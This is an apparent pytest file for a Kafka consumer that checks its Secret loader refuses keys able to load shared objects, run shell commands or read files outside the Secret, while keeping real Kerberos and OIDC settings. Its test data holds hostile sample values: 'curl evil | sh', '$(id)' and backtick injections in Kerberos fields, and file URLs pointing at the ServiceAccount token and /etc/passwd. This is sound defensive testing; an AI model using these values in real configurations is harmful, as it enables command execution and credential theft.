"""Keys of a Kafka Secret that would load code, run a command or send a file of the pod away:
refused by name when the Secret is read (the consumer's start, the reader's, an executor's),
before any Kafka client sees them."""

from __future__ import annotations

from pathlib import Path

import pytest

from antidote_consumer.kafka import auth as ka
from antidote_consumer.kafka import secret_keys
from antidote_consumer.kafka.auth import KafkaAuthError

from .test_consumer_kafka_auth import kubelet_mount

GSSAPI = {"librdkafka.security.protocol": "SASL_SSL", "librdkafka.sasl.mechanisms": "GSSAPI"}


def refused(tmp_path: Path, data: dict[str, str]) -> str:
    kubelet_mount(tmp_path, "creds", data)
    with pytest.raises(KafkaAuthError) as err:
        ka.load("creds", tmp_path)
    return str(err.value)


@pytest.mark.parametrize(("key", "value", "why"), [
    ("librdkafka.plugin.library.paths", "/tmp/evil.so", "loads shared objects"),
    ("librdkafka.ssl.engine.location", "/tmp/engine.so", "OpenSSL engine"),
    ("librdkafka.ssl.engine.id", "dynamic", "OpenSSL engine"),
    ("librdkafka.ssl.providers", "/tmp/provider", "provider modules"),
    ("librdkafka.sasl.kerberos.kinit.cmd", "curl evil | sh", "shell command"),
    ("sasl.kerberos.kinit.cmd", "/tmp/run-me", "command the Java client runs"),
    # Not a credential setting: the consumer's own (files written anywhere, a mock cluster
    # that swallows every write, the log queue, debug contexts...).
    ("librdkafka.offset.store.path", "/etc/antidote/x", "not a credential setting"),
    ("librdkafka.test.mock.num.brokers", "4242", "not a credential setting"),
    ("librdkafka.bootstrap.servers", "evil:9092", "not a credential setting"),
    ("librdkafka.transactional.id", "someone-elses-id", "not a credential setting"),
    # URLs the client fetches: http(s) only.
    ("librdkafka.sasl.oauthbearer.token.endpoint.url", "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
     "not an http(s) URL"),
    ("sasl.oauthbearer.token.endpoint.url", "file:/etc/passwd", "not an http(s) URL"),
    ("sasl.oauthbearer.jwks.endpoint.url", "ftp://x/keys", "not an http(s) URL"),
    # A file sent to the token endpoint: the ServiceAccount token of the driver is one.
    ("librdkafka.sasl.oauthbearer.assertion.file", "/var/run/secrets/kubernetes.io/serviceaccount/token",
     "outside the Secret"),
    ("librdkafka.sasl.oauthbearer.assertion.jwt.template.file", "/etc/hostname", "outside the Secret"),
    ("sasl.oauthbearer.assertion.file", "/var/run/secrets/kubernetes.io/serviceaccount/token",
     "outside the Secret"),
    # Substituted into librdkafka's default kinit command, run by /bin/sh.
    ("librdkafka.sasl.kerberos.principal", "kafka/x; curl evil | sh", "shell command"),
    ("librdkafka.sasl.kerberos.keytab", "/k/$(id)", "shell command"),
    ("librdkafka.sasl.kerberos.service.name", "kafka`id`", "shell command"),
])
def test_each_refused_key_is_named_and_its_value_never_shown(tmp_path: Path, key: str, value: str, why: str) -> None:
    text = refused(tmp_path, {**GSSAPI, key: value})
    assert f"Kafka secret 'creds' ({tmp_path}/creds): refused a key: {key}: " in text, text
    assert why in text and "docs/consumer.md" in text
    assert value not in text


def test_every_refused_key_is_named_at_once(tmp_path: Path) -> None:
    text = refused(tmp_path, {**GSSAPI, "librdkafka.plugin.library.paths": "a.so",
                              "librdkafka.ssl.engine.location": "b.so", "sasl.kerberos.kinit.cmd": "c"})
    assert "refused keys: librdkafka.plugin.library.paths: " in text
    assert "; librdkafka.ssl.engine.location: " in text and "; sasl.kerberos.kinit.cmd: " in text


def test_refused_before_any_client_is_made(tmp_path: Path) -> None:
    """from_dir (the executors' path) and load (the driver's, the reader's) read the Secret
    through read_secret: neither returns a configuration holding a refused key."""
    kubelet_mount(tmp_path, "creds", {**GSSAPI, "librdkafka.plugin.library.paths": "/tmp/evil.so"})
    for read in (lambda: ka.read_secret("creds", tmp_path), lambda: ka.from_dir(str(tmp_path / "creds"))):
        with pytest.raises(KafkaAuthError, match="librdkafka.plugin.library.paths"):
            read()


@pytest.mark.parametrize("data", [
    # What the escape hatch is for: GSSAPI with a keytab of the Secret, OIDC, PEM stores.
    {**GSSAPI, "librdkafka.sasl.kerberos.keytab": "/etc/antidote/secrets/creds/keytab", "keytab": "k",
     "librdkafka.sasl.kerberos.principal": "antidote/orders@EXAMPLE.COM",
     "librdkafka.sasl.kerberos.service.name": "kafka"},
    {"librdkafka.security.protocol": "SASL_SSL", "librdkafka.sasl.mechanisms": "OAUTHBEARER",
     "librdkafka.sasl.oauthbearer.method": "oidc",
     "librdkafka.sasl.oauthbearer.token.endpoint.url": "https://idp.example.com/token",
     "librdkafka.sasl.oauthbearer.client.id": "c", "librdkafka.sasl.oauthbearer.client.secret": "s",
     "librdkafka.https.ca.location": "/etc/ssl/certs/ca-certificates.crt",
     "librdkafka.enable.ssl.certificate.verification": "true"},
    {"librdkafka.security.protocol": "SASL_SSL", "librdkafka.sasl.mechanisms": "OAUTHBEARER",
     "librdkafka.sasl.oauthbearer.method": "oidc", "librdkafka.sasl.oauthbearer.grant.type":
     "urn:ietf:params:oauth:grant-type:jwt-bearer",
     "librdkafka.sasl.oauthbearer.token.endpoint.url": "http://idp.local/token",
     "librdkafka.sasl.oauthbearer.assertion.file": "assertion", "assertion": "jwt"},
    # Java properties with class names: classes of the image, nothing the Secret brings.
    {"security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER",
     "sasl.login.callback.handler.class":
     "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginCallbackHandler",
     "sasl.oauthbearer.token.endpoint.url": "https://idp.example.com/token",
     "sasl.jaas.config": "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required;",
     "librdkafka.security.protocol": "SASL_SSL"},
], ids=["gssapi", "oidc", "oidc-assertion-in-the-secret", "java-oidc"])
def test_credential_settings_are_kept(tmp_path: Path, data: dict[str, str]) -> None:
    kubelet_mount(tmp_path, "creds", data)
    props = ka.read_secret("creds", tmp_path)
    assert set(props) == {k for k in data if ka.is_property(k)}


def test_an_absolute_path_into_the_secret_itself_is_its_own_file(tmp_path: Path) -> None:
    """The documented form (docs/consumer.md): /etc/antidote/secrets/<name>/<key>. A path
    that leaves the Secret's folder through `..` is not."""
    d = tmp_path / "creds"
    base = {"librdkafka.security.protocol": "SASL_SSL", "assertion": "jwt"}
    kubelet_mount(tmp_path, "creds", {**base, "librdkafka.sasl.oauthbearer.assertion.file": f"{d}/assertion"})
    assert ka.read_secret("creds", tmp_path)["librdkafka.sasl.oauthbearer.assertion.file"] == f"{d}/assertion"
    kubelet_mount(tmp_path / "b", "creds", {**base, "librdkafka.sasl.oauthbearer.assertion.file":
                                            f"{tmp_path / 'b' / 'creds'}/../creds/../../etc"})
    with pytest.raises(KafkaAuthError, match="assertion.file: names a file outside the Secret"):
        ka.read_secret("creds", tmp_path / "b")


def test_the_table_is_of_real_property_names() -> None:
    """Each refused librdkafka key is one confluent_kafka's librdkafka knows (a renamed one
    would leave the real name open), and the namespace rule keeps the credential ones."""
    import confluent_kafka

    for key in secret_keys.REFUSED:
        if not key.startswith(secret_keys.NATIVE):
            continue
        name = key[len(secret_keys.NATIVE):]
        try:
            confluent_kafka.Producer({name: "x", "bootstrap.servers": "127.0.0.1:1"})
        except confluent_kafka.KafkaException as err:
            assert "No such configuration property" not in str(err), key
        except (ValueError, TypeError):
            pass
        assert name.startswith(secret_keys.NATIVE_ALLOWED) or name == "plugin.library.paths"


def test_a_relative_secrets_root_still_knows_its_own_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    kubelet_mount(tmp_path, "creds", {"librdkafka.security.protocol": "SASL_SSL", "assertion": "jwt",
                                      "librdkafka.sasl.oauthbearer.assertion.file": "assertion"})
    props = ka.read_secret("creds", ".")
    assert props["librdkafka.sasl.oauthbearer.assertion.file"] == "creds/assertion"
